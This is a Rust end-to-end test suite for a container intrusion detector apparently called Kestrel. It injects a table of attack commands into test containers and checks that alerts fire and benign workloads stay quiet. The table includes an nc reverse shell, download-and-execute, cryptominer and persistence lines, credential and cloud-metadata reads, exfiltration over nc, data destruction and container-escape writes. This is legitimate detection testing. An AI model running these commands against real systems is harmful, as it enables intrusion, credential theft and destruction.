//! `make e2e`: the attack and benign scenario suite. Standalone Kestrel (the
//! sibling `kestrel` binary, no LLM configured) learns two busybox
//! workloads in real runc containers, then:
//!
//! - every attack scenario runs three times, each time in a fresh replica
//!   of the web workload, delivered through the workload's own request
//!   path (its loop runs what a request put in `/app/cmd`, as a command
//!   injection in a web handler would), and must alert every time;
//! - benign scenarios run throughout: ids and timestamps in arguments, log
//!   rotation with epoch suffixes, a cron-like job, temporary files (the
//!   worker workload), and replicas added after convergence (every fresh
//!   replica before its attack): they must raise no alert;
//! - a rollout replaces every web replica with a release whose entry point
//!   has a new command line: no alert of severity High or above, and a
//!   relearn suggestion.
//!
//! It prints one row per scenario (detected runs, severity, score and its
//! breakdown, time from the attack's start to its alert) and the benign
//! totals (raw candidates, alerts). Exit status 1 when an attack run was
//! missed or a benign scenario alerted.

use anyhow::{bail, Context, Result};
use kestrel_e2e::{require_privileged, sibling_binary, workload, Container};
use std::collections::BTreeMap;
use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

const CONFIG: &str = "workloads:
  - name: web
    image: webapp:v1
    containers: \"scn-web-*\"
  - name: worker
    image: worker:v1
    containers: \"scn-worker-*\"
learning:
  window: 10s
  minLearningTime: 40s
  cleanWindows: 1
  maxNewPerWindow: 0
";

/// One attack: what it does and the command a request injects.
struct Attack {
    name: &'static str,
    tactic: &'static str,
    technique: &'static str,
    command: &'static str,
}

const ATTACKS: &[Attack] = &[
    Attack {
        name: "reverse shell through a fifo and nc",
        tactic: "execution",
        technique: "T1059.004",
        command: "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -w 1 127.0.0.1 4444 > /tmp/f",
    },
    Attack {
        name: "download and execute",
        tactic: "execution",
        technique: "T1105",
        command: "wget -q -T 1 -O /tmp/.k http://127.0.0.1:8081/k; chmod +x /tmp/.k; /tmp/.k",
    },
    Attack {
        name: "interpreter spawning a shell",
        tactic: "execution",
        technique: "T1059",
        command: "awk 'BEGIN { system(\"id; uname -a\") }'",
    },
    Attack {
        name: "renamed miner in /tmp",
        tactic: "impact",
        technique: "T1496",
        command: "cp /bin/busybox /tmp/kdevtmpfsi; /tmp/kdevtmpfsi -o stratum+tcp://pool.supportxmr.com:3333 -u 4AbCdEf -p x",
    },
    Attack {
        name: "cron persistence",
        tactic: "persistence",
        technique: "T1053.003",
        command: "mkdir -p /etc/crontabs; echo '* * * * * /tmp/.k' >> /etc/crontabs/root",
    },
    Attack {
        name: "shell profile persistence",
        tactic: "persistence",
        technique: "T1546.004",
        command: "echo 'nc 127.0.0.1 4444 -e /bin/sh &' >> /root/.profile",
    },
    Attack {
        name: "ssh authorized key",
        tactic: "persistence",
        technique: "T1098.004",
        command: "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI attacker' >> /root/.ssh/authorized_keys",
    },
    Attack {
        name: "setuid copy of a shell",
        tactic: "privilege-escalation",
        technique: "T1548.001",
        command: "cp /bin/busybox /tmp/.sh; chmod 4755 /tmp/.sh",
    },
    Attack {
        name: "root account added to /etc/passwd",
        tactic: "privilege-escalation",
        technique: "T1136.001",
        command: "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd",
    },
    Attack {
        name: "sudoers rule",
        tactic: "privilege-escalation",
        technique: "T1548.003",
        command: "echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
    },
    Attack {
        name: "masquerading as a system binary",
        tactic: "defense-evasion",
        technique: "T1036.005",
        command: "cp /bin/busybox /usr/sbin/nginx; /usr/sbin/nginx -g 'daemon off;'",
    },
    Attack {
        name: "payload in a noexec mount",
        tactic: "defense-evasion",
        technique: "T1564",
        command: "cp /bin/busybox /dev/shm/.x; chmod +x /dev/shm/.x; /dev/shm/.x -o pool:4444",
    },
    Attack {
        name: "dropped binary run from its own directory",
        tactic: "defense-evasion",
        technique: "T1036.004",
        command: "cd /tmp && cp /bin/busybox ./.ksoftirqd && ./.ksoftirqd -o pool:4444",
    },
    Attack {
        name: "logs and history removed",
        tactic: "defense-evasion",
        technique: "T1070.003",
        command: "rm -f /root/.ash_history /var/log/*.log",
    },
    Attack {
        name: "shadow read",
        tactic: "credential-access",
        technique: "T1003.008",
        command: "cat /etc/shadow",
    },
    Attack {
        name: "shadow read through a relative path",
        tactic: "credential-access",
        technique: "T1003.008",
        command: "cd /etc && cat ./shadow",
    },
    Attack {
        name: "filesystem sweep for keys",
        tactic: "credential-access",
        technique: "T1552.001",
        command: "find / -xdev -name '*.pem' -o -name 'id_rsa*' -o -name '*.key' 2>/dev/null",
    },
    Attack {
        name: "service account token",
        tactic: "credential-access",
        technique: "T1528",
        command: "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    },
    Attack {
        name: "cloud metadata credentials",
        tactic: "credential-access",
        technique: "T1552.005",
        command: "printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n' | nc -w 1 169.254.169.254 80",
    },
    Attack {
        name: "process environment of init",
        tactic: "credential-access",
        technique: "T1552",
        command: "cat /proc/1/environ",
    },
    Attack {
        name: "port scan of the node",
        tactic: "discovery",
        technique: "T1046",
        command: "for p in 22 2375 2379 6443 10250; do nc -w 1 127.0.0.1 $p < /dev/null; done",
    },
    Attack {
        name: "kubelet API of a node from the pod",
        tactic: "lateral-movement",
        technique: "T1210",
        command: "printf 'GET /pods HTTP/1.0\\r\\n\\r\\n' | nc -w 1 10.0.0.1 10250",
    },
    Attack {
        name: "archive of the application and /etc",
        tactic: "collection",
        technique: "T1560.001",
        command: "tar czf /tmp/.loot.tgz /etc /app 2>/dev/null",
    },
    Attack {
        name: "exfiltration over nc",
        tactic: "exfiltration",
        technique: "T1048",
        command: "nc -w 1 127.0.0.1 9999 < /etc/passwd",
    },
    Attack {
        name: "application data destroyed",
        tactic: "impact",
        technique: "T1485",
        command: "rm -rf /app",
    },
    Attack {
        name: "cgroup release_agent write",
        tactic: "container-escape",
        technique: "T1611",
        command: "echo /tmp/.k > /sys/fs/cgroup/release_agent",
    },
    Attack {
        name: "kernel core_pattern write",
        tactic: "container-escape",
        technique: "T1611",
        command: "echo '|/tmp/.k' > /proc/sys/kernel/core_pattern",
    },
    Attack {
        name: "nsenter into the host's namespaces",
        tactic: "container-escape",
        technique: "T1611",
        command: "nsenter -t 1 -m -u -i -n sh -c id",
    },
];

/// The worker: ids and timestamps in arguments, log rotation with epoch
/// suffixes, a cron-like job, temporary files.
const WORKER_LOOP: &str = r#"i=0
while true; do
  i=$((i+1))
  echo "job $i $(date +%s)" >> /var/log/worker.log
  t=$(mktemp /tmp/job.XXXXXX); echo "$i" > "$t"; cat "$t" > /dev/null; rm -f "$t"
  if [ $((i % 5)) -eq 0 ]; then
    mv /var/log/worker.log /var/log/worker.log.$(date +%s)
    gzip -f /var/log/worker.log.*
    rm -f $(ls -t /var/log/worker.log.*.gz | tail -n +3)
  fi
  if [ $((i % 7)) -eq 0 ]; then
    sh -c "tar czf /tmp/backup-$(date +%s).tgz /app 2>/dev/null; rm -f /tmp/backup-*.tgz"
  fi
  sleep 1
done"#;

/// How long the learned workloads may take to converge.
const CONVERGENCE_LIMIT: Duration = Duration::from_secs(480);

/// How long each fresh replica runs before its attack (it must stay quiet).
const QUIET_SECS: u64 = 4;

/// The release of the web workload that the rollout scenario deploys: its
/// entry point's command line changes (new flags, a cache directory that
/// every request writes to), so every replica of the new version does
/// something the learned profile never saw.
fn web_loop_v2() -> String {
    workload::WEB_LOOP
        .replace(
            "java -jar /app/app.jar --timestamp=$(date +%s)",
            "java -jar /app/app.jar --timestamp=$(date +%s) --workers=4 --cache-dir=/var/cache/app",
        )
        .replace(
            "  cat /etc/hostname > /dev/null\n",
            "  cat /etc/hostname > /dev/null\n  mkdir -p /var/cache/app; echo \"$i\" > /var/cache/app/last\n",
        )
}

/// What one run of an attack gave.
#[derive(Default, Clone)]
struct RunResult {
    alert: Option<serde_json::Value>,
    after: Option<Duration>,
}

fn pods(a: &serde_json::Value) -> Vec<String> {
    a["incident"]["pods"]
        .as_array()
        .map(|v| {
            v.iter()
                .filter_map(|p| p.as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

fn part(a: &serde_json::Value, engine: &str) -> String {
    let e = &a["breakdown"][engine];
    match e["score"].as_f64() {
        Some(s) => format!("{engine} {s:.0}"),
        None => format!("{engine} -"),
    }
}

fn percentile(mut v: Vec<Duration>, p: f64) -> Option<Duration> {
    if v.is_empty() {
        return None;
    }
    v.sort();
    let i = ((v.len() as f64 * p).ceil() as usize).clamp(1, v.len()) - 1;
    Some(v[i])
}

fn main() -> Result<()> {
    if !require_privileged() {
        bail!("the scenarios need root, BTF, runc and busybox (make deps)");
    }
    let runs: usize = std::env::var("KESTREL_SCENARIO_RUNS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(3);
    let only = std::env::var("KESTREL_SCENARIO").ok();
    let kestrel = sibling_binary("kestrel")?;
    let dir = std::env::temp_dir().join(format!("kestrel-scenarios-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let cfg = dir.join("config.yaml");
    std::fs::write(&cfg, CONFIG)?;
    let state = dir.join("state");
    let started = Instant::now();

    let mut child = Command::new(&kestrel)
        .args(["standalone", "--state-dir"])
        .arg(&state)
        .arg("--config")
        .arg(&cfg)
        .args(["--progress-every", "5"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .context("start kestrel standalone")?;
    let stdout = child.stdout.take().context("stdout")?;
    let (tx, rx) = mpsc::channel::<(Instant, serde_json::Value)>();
    let log_path = dir.join("kestrel.jsonl");
    let mut log = std::fs::File::create(&log_path)?;
    println!("kestrel's output: {}", log_path.display());
    let reader = std::thread::spawn(move || {
        use std::io::Write;
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            let _ = writeln!(log, "{line}");
            if let Ok(v) = serde_json::from_str::<serde_json::Value>(&line) {
                let _ = tx.send((Instant::now(), v));
            }
        }
    });
    std::thread::sleep(Duration::from_secs(2));

    println!("== learning: web (3 replicas) and worker (2 replicas) ==");
    let mut base = Vec::new();
    for i in 1..=3 {
        base.push(workload::start_web(&format!("scn-web-{i}"))?);
    }
    let bb = std::path::Path::new("/bin/busybox");
    for i in 1..=2 {
        base.push(Container::start_with(
            &format!("scn-worker-{i}"),
            &["sh", "-c", WORKER_LOOP],
            &[(bb, "xmrig")],
        )?);
    }
    let mut detecting = std::collections::BTreeSet::new();
    // the worker converges after about 4 to 4.5 minutes (docs/scenarios.md,
    // Known limits); the deadline only bounds a run that never converges
    let deadline = Instant::now() + CONVERGENCE_LIMIT;
    while Instant::now() < deadline && detecting.len() < 2 {
        if let Ok((_, v)) = rx.recv_timeout(Duration::from_secs(1)) {
            if let Some(p) = v.get("phase") {
                if p["to"] == "Detecting" {
                    detecting.insert(p["workload"].as_str().unwrap_or("").to_string());
                    println!(
                        "  {} detecting after {:.0?}",
                        p["workload"],
                        started.elapsed()
                    );
                }
            }
        }
    }
    if detecting.len() < 2 {
        bail!(
            "the workloads did not converge within {}s: {detecting:?}",
            CONVERGENCE_LIMIT.as_secs()
        );
    }
    let detect_start = Instant::now();
    let candidates_at = |state: &std::path::Path| -> u64 {
        std::fs::read_to_string(state.join("status.json"))
            .ok()
            .and_then(|t| serde_json::from_str::<serde_json::Value>(&t).ok())
            .and_then(|v| v["alerts"]["candidates"].as_u64())
            .unwrap_or(0)
    };

    // every alert line seen, with when
    let mut lines: Vec<(Instant, serde_json::Value)> = Vec::new();
    let drain = |rx: &mpsc::Receiver<(Instant, serde_json::Value)>,
                 lines: &mut Vec<(Instant, serde_json::Value)>,
                 wait: Duration| {
        let until = Instant::now() + wait;
        while let Ok((t, v)) = rx.recv_timeout(until.saturating_duration_since(Instant::now())) {
            if let Some(a) = v.get("alert") {
                lines.push((t, a.clone()));
            }
            // relearn suggestions travel with the alerts, told apart by
            // their key (they name no pod)
            if v.get("relearn").is_some() {
                lines.push((t, v.clone()));
            }
            if Instant::now() >= until {
                break;
            }
        }
    };

    let mut results: Vec<(usize, Vec<RunResult>)> = Vec::new();
    let mut benign_pods: Vec<String> = base.iter().map(|c| c.id().to_string()).collect();
    for (k, attack) in ATTACKS.iter().enumerate() {
        if only.as_deref().is_some_and(|o| !attack.name.contains(o)) {
            continue;
        }
        let mut rr = Vec::new();
        for run in 1..=runs {
            let name = format!("scn-web-a{k}r{run}");
            let c = workload::start_web(&name)?;
            // a replica added after convergence: it must stay quiet
            drain(&rx, &mut lines, Duration::from_secs(QUIET_SECS));
            let quiet_before = lines.iter().any(|(_, a)| pods(a).contains(&name));
            let inject = c.rootfs_path("/app/cmd.new");
            std::fs::write(&inject, attack.command)?;
            let t0 = Instant::now();
            let t0_wall = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_nanos() as i128)
                .unwrap_or(0);
            std::fs::rename(&inject, c.rootfs_path("/app/cmd"))?;
            let mut res = RunResult::default();
            let until = t0 + Duration::from_secs(15);
            while Instant::now() < until && res.alert.is_none() {
                drain(&rx, &mut lines, Duration::from_millis(200));
                // an alert line for this pod at or above the threshold
                // (an incident's update that fell below it is not an alert)
                if let Some((t, a)) = lines.iter().find(|(t, a)| {
                    *t >= t0
                        && pods(a).contains(&name)
                        && a["score"].as_f64().unwrap_or(0.0)
                            >= a["breakdown"]["threshold"].as_f64().unwrap_or(f64::MAX)
                }) {
                    res = RunResult {
                        alert: Some(a.clone()),
                        after: Some(t.duration_since(t0)),
                    };
                }
            }
            if quiet_before {
                benign_pods.push(format!("{name} (before its attack)"));
                eprintln!("  benign: the fresh replica {name} alerted before its attack");
            }
            let mark = if res.alert.is_some() {
                "alert"
            } else {
                "MISSED"
            };
            if let Some(a) = &res.alert {
                let last = a["incident"]["lastSeenNs"].as_i64().unwrap_or(0) as i128;
                eprintln!(
                    "    incident {} count {} last seen {:+.3}s from the injection",
                    a["id"],
                    a["incident"]["count"],
                    (last - t0_wall) as f64 / 1e9
                );
            }
            println!(
                "  {:<40} run {run}: {mark}{}",
                attack.name,
                res.after
                    .map(|d| format!(" after {d:.2?}"))
                    .unwrap_or_default()
            );
            rr.push(res);
            drop(c);
        }
        results.push((k, rr));
    }

    // the rollout: every web replica replaced by a release whose entry
    // point has a new command line, one at a time (a rolling update with
    // one surge replica)
    let learned: Vec<String> = base.iter().map(|c| c.id().to_string()).collect();
    drain(&rx, &mut lines, Duration::from_secs(2));
    println!("== rollout: the web replicas replaced by a release with a new command line ==");
    let rollout_start = Instant::now();
    let rollout_candidates_before = candidates_at(&state);
    let v2 = web_loop_v2();
    let mut released = Vec::new();
    for i in 1..=3 {
        let name = format!("scn-web-v2-{i}");
        released.push(Container::start_with(
            &name,
            &["sh", "-c", &v2],
            &[(bb, "xmrig"), (bb, "java")],
        )?);
        drain(&rx, &mut lines, Duration::from_secs(4));
        // the old replica goes (the web replicas are the first three)
        drop(base.remove(0));
    }
    drain(&rx, &mut lines, Duration::from_secs(10));
    let rollout_secs = rollout_start.elapsed().as_secs();
    let rollout_candidates = candidates_at(&state).saturating_sub(rollout_candidates_before);
    let released_ids: Vec<String> = released.iter().map(|c| c.id().to_string()).collect();
    let rollout_alerts: Vec<serde_json::Value> = lines
        .iter()
        .filter(|(t, a)| *t >= rollout_start && pods(a).iter().any(|p| released_ids.contains(p)))
        .map(|(_, a)| a.clone())
        .collect();
    let rollout_severe = rollout_alerts
        .iter()
        .filter(|a| matches!(a["severity"].as_str(), Some("High" | "Critical")))
        .count();
    let relearn = lines.iter().find_map(|(t, v)| {
        (*t >= rollout_start && v["relearn"]["workload"] == "web")
            .then(|| v["relearn"]["reason"].as_str().unwrap_or("").to_string())
    });
    println!(
        "  rollout of 3 replicas over {rollout_secs}s: {rollout_candidates} raw candidates, {} alert line(s) ({rollout_severe} High or above)",
        rollout_alerts.len()
    );
    for a in &rollout_alerts {
        println!(
            "  rollout alert: {} {} {} {}",
            a["id"], a["severity"], a["title"], a["breakdown"]["cluster"]["reason"]
        );
    }
    match &relearn {
        Some(r) => println!("  relearn suggested: {r}"),
        None => println!("  NO relearn suggestion for web"),
    }

    // benign: the learned replicas kept running through everything
    drain(&rx, &mut lines, Duration::from_secs(2));
    let benign_alerts: Vec<&serde_json::Value> = lines
        .iter()
        .filter(|(t, a)| *t >= detect_start && pods(a).iter().any(|p| learned.contains(p)))
        .map(|(_, a)| a)
        .collect();
    let fresh_alerted = benign_pods.len() - learned.len();
    let benign_secs = detect_start.elapsed().as_secs();
    let candidates = candidates_at(&state);

    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let _ = child.wait();
    let _ = reader.join();
    drop(base);
    drop(released);

    println!("\n| scenario | tactic | technique | detected | severity | score | breakdown | time to alert (max) |");
    println!("|---|---|---|---|---|---|---|---|");
    let mut missed = 0;
    let mut times = Vec::new();
    let mut tactics = std::collections::BTreeSet::new();
    for (k, rr) in &results {
        let a = &ATTACKS[*k];
        let hits = rr.iter().filter(|r| r.alert.is_some()).count();
        missed += rr.len() - hits;
        if hits > 0 {
            tactics.insert(a.tactic);
        }
        times.extend(rr.iter().filter_map(|r| r.after));
        let last = rr.iter().rev().find_map(|r| r.alert.as_ref());
        let (sev, score, parts) = match last {
            Some(al) => (
                al["severity"].as_str().unwrap_or("?").to_string(),
                format!("{:.1}", al["score"].as_f64().unwrap_or(0.0)),
                ["rules", "deviation", "cluster", "llm"]
                    .iter()
                    .map(|e| part(al, e))
                    .collect::<Vec<_>>()
                    .join(", "),
            ),
            None => ("-".into(), "-".into(), "-".into()),
        };
        let worst = rr.iter().filter_map(|r| r.after).max();
        println!(
            "| {} | {} | {} | {hits}/{} | {sev} | {score} | {parts} | {} |",
            a.name,
            a.tactic,
            a.technique,
            rr.len(),
            worst
                .map(|d| format!("{:.2}s", d.as_secs_f64()))
                .unwrap_or("-".into())
        );
    }
    let by_tactic: BTreeMap<&str, usize> = results.iter().fold(BTreeMap::new(), |mut m, (k, _)| {
        *m.entry(ATTACKS[*k].tactic).or_default() += 1;
        m
    });
    println!(
        "\nattacks: {} scenarios over {} tactics ({by_tactic:?}), {} runs, {missed} missed",
        results.len(),
        by_tactic.len(),
        results.iter().map(|(_, r)| r.len()).sum::<usize>()
    );
    if let (Some(p50), Some(p95)) = (percentile(times.clone(), 0.5), percentile(times, 0.95)) {
        println!("time from attack start to alert: p50 {p50:.2?}, p95 {p95:.2?}");
    }
    println!(
        "benign: {benign_secs}s of detection on 5 learned replicas (ids and timestamps in arguments, log rotation with epoch suffixes, a cron-like job, temp files) and {} replicas added after convergence: {} alert line(s) on learned replicas, {fresh_alerted} fresh replica(s) alerting before their attack; {candidates} raw candidates in all (attacks included)",
        results.iter().map(|(_, r)| r.len()).sum::<usize>(),
        benign_alerts.len(),
    );
    for a in &benign_alerts {
        println!(
            "  benign alert: {} {} {}",
            a["id"], a["title"], a["breakdown"]["deviation"]["reason"]
        );
    }
    println!(
        "rollout: {rollout_candidates} raw candidates, {} alert line(s), {rollout_severe} of severity High or above, relearn suggested: {}",
        rollout_alerts.len(),
        if relearn.is_some() { "yes" } else { "no" }
    );
    let alert_ids: std::collections::BTreeSet<&str> =
        lines.iter().filter_map(|(_, a)| a["id"].as_str()).collect();
    println!(
        "raw candidates to alerts: {candidates} candidates, {} alerts ({:.1} candidates per alert)",
        alert_ids.len(),
        candidates as f64 / alert_ids.len().max(1) as f64
    );
    if missed > 0
        || !benign_alerts.is_empty()
        || fresh_alerted > 0
        || rollout_severe > 0
        || relearn.is_none()
    {
        bail!(
            "{missed} attack run(s) missed, {} benign alert(s), {fresh_alerted} fresh replica(s) alerted, {rollout_severe} rollout alert(s) High or above, relearn suggested: {}",
            benign_alerts.len(),
            relearn.is_some()
        );
    }
    Ok(())
}
